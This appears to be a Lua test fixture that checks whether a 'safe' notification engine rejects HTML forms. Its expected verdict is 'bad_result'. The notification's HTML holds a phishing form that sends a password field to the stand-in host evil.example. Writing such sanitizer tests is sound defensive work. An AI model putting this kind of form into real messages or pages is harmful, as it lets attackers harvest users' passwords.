-- SAFE ENGINE MUST: refuse forms
-- verdict: bad_result
return { notification = function(notice)
  return { subject = "s", text = "t", html = '<form action="https://evil.example"><input name=password></form>' }
end }
